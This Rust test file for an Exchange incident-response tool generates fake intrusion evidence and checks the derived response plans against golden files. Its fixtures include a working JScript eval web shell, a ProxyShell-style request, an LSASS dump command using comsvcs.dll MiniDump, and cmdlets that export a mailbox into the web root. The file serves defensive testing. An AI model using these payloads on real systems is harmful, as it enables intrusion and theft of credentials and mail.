//! Golden response plans: a generated intrusion (evidence written by this test or by exray-gen)
//! is hunted, and the plan derived from its findings by `rules/plan.toml` must equal
//! `tests/golden/plans/<shape>.expected`. `UPDATE_GOLDEN=1` rewrites the expected files (review
//! them in the diff). Every built-in plan step must appear in at least one golden plan.

use std::collections::HashSet;
use std::path::{Path, PathBuf};

use chrono::{DateTime, Duration, Utc};
use exray_gen::{benign_iis, fake_version_resource, iis_line, iis_preamble, Iis, Rng};
use exray_hunt::discover::Overrides;
use exray_hunt::plan::PlanRules;
use exray_hunt::{run, HuntOptions};

const ATTACKER: &str = "203.0.113.9";
const CHOPPER: &str =
    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"exray_test\"],\"unsafe\");%>";
const WEB_CONFIG: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>\r\n  <system.webServer>\r\n    <httpRedirect enabled=\"false\" />\r\n  </system.webServer>\r\n</configuration>\r\n";

fn t(s: &str) -> DateTime<Utc> {
    s.parse().unwrap()
}

fn write(path: &Path, bytes: impl AsRef<[u8]>) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

/// A server: Exchange 2016 CU19 without the March 2021 SU, the Default Web Site's web.config
/// without the mitigations, and a week of benign IIS traffic plus `attack` lines.
fn server(root: &Path, attack: &[(DateTime<Utc>, &str, &str, &str, u16)]) -> PathBuf {
    let c = root.join("C");
    let ex = c.join("Program Files/Microsoft/Exchange Server/V15");
    write(
        &ex.join("Bin/ExSetup.exe"),
        fake_version_resource((15, 1, 2176, 2)),
    );
    write(&c.join("inetpub/wwwroot/web.config"), WEB_CONFIG);
    std::fs::create_dir_all(c.join("Windows/System32")).unwrap();
    let mut rng = Rng::new(7);
    let start = t("2020-12-20T00:00:00Z");
    let mut lines: Vec<(DateTime<Utc>, String)> = (0..400)
        .map(|i| {
            let at = start + Duration::minutes(i * 311);
            (at, benign_iis(&mut rng, at))
        })
        .collect();
    for (at, method, stem, query, status) in attack {
        lines.push((
            *at,
            iis_line(
                &mut rng,
                &Iis {
                    t: *at,
                    method,
                    stem,
                    query,
                    user: "",
                    ip: ATTACKER,
                    ua: "python-requests/2.25.1",
                    status: *status,
                },
            ),
        ));
    }
    lines.sort();
    let mut text = iis_preamble(start);
    for (_, l) in lines {
        text.push_str(&l);
        text.push_str("\r\n");
    }
    write(&c.join("inetpub/logs/LogFiles/W3SVC1/u_ex201220.log"), text);
    c
}

/// Exported Windows events (winlogbeat-like flat JSON lines), read through `--evtx`.
fn events(root: &Path, lines: &[String]) -> PathBuf {
    let p = root.join("export/events.jsonl");
    write(&p, lines.join("\n") + "\n");
    p
}

fn cmdlet(time: &str, record: u64, name: &str, params: &str) -> String {
    serde_json::json!({
        "System": {"EventID": {"Value": 1}, "Channel": "MSExchange Management",
                   "Provider": {"Name": "MSExchange CmdletLogs"},
                   "TimeCreated": {"SystemTime": t(time).timestamp()},
                   "EventRecordID": record, "Computer": "EX02.contoso.local"},
        "EventData": {"Data": [name, params, "CONTOSO/Users/SM_x", "S-1-5-21-1", "S-1-5-21-1",
                                "Remote-ManagementShell", "2211 w3wp#MSExchangePowerShellAppPool"]}
    })
    .to_string()
}

fn process(time: &str, record: u64, parent: &str, image: &str, cmd: &str) -> String {
    serde_json::json!({
        "EventID": 4688, "Channel": "Security", "SourceName": "Microsoft-Windows-Security-Auditing",
        "Hostname": "EX02.contoso.local", "TimeCreated": time, "EventRecordID": record,
        "ParentProcessName": parent, "NewProcessName": image, "CommandLine": cmd,
        "SubjectUserName": "EX02$"
    })
    .to_string()
}

const W3WP: &str = r"c:\windows\system32\inetsrv\w3wp.exe";
const SHELL_URL: &str = "/aspnet_client/system_web/OutlookEN.aspx";

fn shell_on_disk(c: &Path) {
    write(
        &c.join("inetpub/wwwroot/aspnet_client/system_web/OutlookEN.aspx"),
        CHOPPER,
    );
}

fn shell_requests() -> Vec<(DateTime<Utc>, &'static str, &'static str, &'static str, u16)> {
    vec![
        (t("2021-03-03T04:20:00Z"), "POST", SHELL_URL, "-", 200),
        (
            t("2021-03-03T04:21:00Z"),
            "GET",
            SHELL_URL,
            "exray_test=cmd+/c+whoami",
            200,
        ),
    ]
}

type Shape = fn(&Path) -> HuntOptions;

fn opts(path: PathBuf, evtx: Vec<PathBuf>) -> HuntOptions {
    HuntOptions {
        path,
        threads: 2,
        overrides: Overrides {
            evtx,
            ..Default::default()
        },
        ..Default::default()
    }
}

fn sample(root: &Path) -> HuntOptions {
    exray_gen::write_sample(root).unwrap();
    opts(root.to_path_buf(), Vec::new())
}

fn shell_only(root: &Path) -> HuntOptions {
    let c = server(root, &shell_requests());
    shell_on_disk(&c);
    opts(root.to_path_buf(), Vec::new())
}

fn shell_and_lsass_dump(root: &Path) -> HuntOptions {
    let c = server(root, &shell_requests());
    shell_on_disk(&c);
    let mut md = b"MDMP\x93\xa7\x00\x00".to_vec();
    md.extend(std::iter::repeat_n(0u8, 56));
    write(&c.join("Windows/Temp/lsass.dmp"), md);
    let ev = events(
        root,
        &[
            process(
                "2021-03-03T04:22:00Z",
                101,
                W3WP,
                r"c:\windows\system32\cmd.exe",
                "cmd /c whoami",
            ),
            process(
                "2021-03-03T04:25:00Z",
                102,
                r"c:\windows\system32\cmd.exe",
                r"c:\windows\system32\rundll32.exe",
                r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full",
            ),
        ],
    );
    opts(root.to_path_buf(), vec![ev])
}

fn mailbox_export(root: &Path) -> HuntOptions {
    server(root, &[]);
    let ev = events(
        root,
        &[
            cmdlet(
                "2021-03-04T02:00:00Z",
                41,
                "New-MailboxExportRequest",
                "-Mailbox \"ceo@contoso.com\" -FilePath \"\\\\fs01\\share$\\ceo.pst\"",
            ),
            cmdlet(
                "2021-03-04T03:00:00Z",
                42,
                "Remove-MailboxExportRequest",
                "-Identity \"ceo@contoso.com\\MailboxExport\" -Confirm \"False\"",
            ),
        ],
    );
    opts(root.to_path_buf(), vec![ev])
}

fn proxyshell_pst_in_web_root(root: &Path) -> HuntOptions {
    let ps = "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp";
    let c = server(
        root,
        &[
            (
                t("2021-08-13T10:00:00Z"),
                "POST",
                "/autodiscover/autodiscover.json",
                ps,
                200,
            ),
            (
                t("2021-08-13T10:05:00Z"),
                "GET",
                "/aspnet_client/ceo.aspx",
                "exray_test=cmd+/c+whoami",
                200,
            ),
        ],
    );
    // The PST, written by the export into the web root under a page's name.
    let mut pst = b"!BDN\x00\x00\x00\x00SM".to_vec();
    pst.extend(b"<script language=\"JScript\" runat=\"server\">");
    pst.extend(std::iter::repeat_n(0u8, 64));
    write(&c.join("inetpub/wwwroot/aspnet_client/ceo.aspx"), &pst);
    write(&c.join("inetpub/wwwroot/aspnet_client/mail.pst"), &pst);
    let ev = events(
        root,
        &[
            cmdlet(
                "2021-08-13T10:01:00Z",
                51,
                "New-ManagementRoleAssignment",
                "-Role \"Mailbox Import Export\" -User \"administrator@contoso.com\"",
            ),
            cmdlet(
                "2021-08-13T10:02:00Z",
                52,
                "New-MailboxExportRequest",
                "-Mailbox \"ceo@contoso.com\" -IncludeFolders \"#Drafts#\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.aspx\"",
            ),
        ],
    );
    opts(root.to_path_buf(), vec![ev])
}

fn clean_without_mitigations(root: &Path) -> HuntOptions {
    server(root, &[]);
    opts(root.to_path_buf(), Vec::new())
}

/// No indicators, but the IIS logs stop for three weeks: the verify step must say so.
fn clean_with_a_gap(root: &Path) -> HuntOptions {
    let c = server(root, &[]);
    let mut rng = Rng::new(9);
    let start = t("2021-04-10T00:00:00Z");
    let mut text = iis_preamble(start);
    for i in 0..50 {
        text.push_str(&benign_iis(&mut rng, start + Duration::minutes(i * 97)));
        text.push_str("\r\n");
    }
    write(&c.join("inetpub/logs/LogFiles/W3SVC1/u_ex210410.log"), text);
    opts(root.to_path_buf(), Vec::new())
}

fn nothing_to_read(root: &Path) -> HuntOptions {
    write(&root.join("notes.txt"), "a collection that holds no logs");
    opts(root.to_path_buf(), Vec::new())
}

/// The plan as text, with the temporary folder's path replaced by `<root>`.
fn plan_text(r: &exray_core::Report, root: &Path) -> String {
    let mut out = Vec::new();
    exray_core::render::plan_text(&r.plan, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let root = root.display().to_string();
    format!(
        "# verdict: {}\n{}",
        r.verdict.as_str(),
        text.replace(&root, "<root>")
    )
}

#[test]
fn golden_plans() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden/plans");
    let update = std::env::var_os("UPDATE_GOLDEN").is_some();
    let shapes: [(&str, Shape); 8] = [
        ("sample", sample),
        ("shell_only", shell_only),
        ("shell_and_lsass_dump", shell_and_lsass_dump),
        ("mailbox_export", mailbox_export),
        ("proxyshell_pst_in_web_root", proxyshell_pst_in_web_root),
        ("clean_without_mitigations", clean_without_mitigations),
        ("clean_with_a_gap", clean_with_a_gap),
        ("nothing_to_read", nothing_to_read),
    ];
    let mut given = HashSet::new();
    let mut failures = Vec::new();
    for (name, shape) in shapes {
        let tmp = tempfile::tempdir().unwrap();
        let report = run(&shape(tmp.path()), None).expect("hunt runs");
        for s in &report.plan {
            given.insert(s.rule.clone());
        }
        let actual = plan_text(&report, tmp.path());
        let path = dir.join(format!("{name}.expected"));
        if update {
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::write(&path, &actual).unwrap();
            continue;
        }
        let expected = std::fs::read_to_string(&path).unwrap_or_default();
        if actual != expected {
            failures.push(format!(
                "{name}: plan differs from {} (UPDATE_GOLDEN=1 rewrites it)\n--- actual\n{actual}",
                path.display()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    for id in PlanRules::builtin().ids() {
        assert!(given.contains(id), "plan step {id} is in no golden plan");
    }
}
